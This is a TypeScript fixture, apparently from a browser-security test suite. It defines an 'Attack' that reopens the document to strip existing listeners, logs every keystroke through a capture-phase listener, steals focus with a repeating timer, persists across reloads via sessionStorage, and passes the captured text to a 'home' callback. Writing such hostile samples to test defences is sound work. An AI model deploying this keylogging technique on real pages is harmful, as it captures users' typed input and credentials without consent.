/** Opens its document anew, which removes every listener of the window, listens first, and takes the focus even when it is loaded afresh. */
import type { Attack } from '../attack.ts';

export const writesItsDocumentAnew: Attack = {
  trap: ({ caught, home }) => {
    const take = (): void => {
      const heard: string[] = [];
      addEventListener('keydown', ({ key }) => heard.push(key), true);
      const field = document.body.appendChild(document.createElement('input'));
      const timer = setInterval(() => field.focus(), 30);
      document.addEventListener('hostile-stop', () => {
        clearInterval(timer);
        sessionStorage.removeItem('anew');
        caught.push(heard.join(''), '\n', field.value);
        void home(caught.join('')).then(() => document.documentElement.setAttribute('data-hostile', 'stopped'));
      });
    };
    document.addEventListener('DOMContentLoaded', () => {
      if (sessionStorage.getItem('anew') === null) return;
      take();
      document.documentElement.setAttribute('data-hostile', 'done');
    });
    const rewrite = (): void => {
      const { documentElement } = document;
      document.open();
      document.append(documentElement);
      take();
    };
    document.addEventListener('hostile-go', () => {
      sessionStorage.setItem('anew', '');
      setTimeout(rewrite, 30);
    });
  },
};
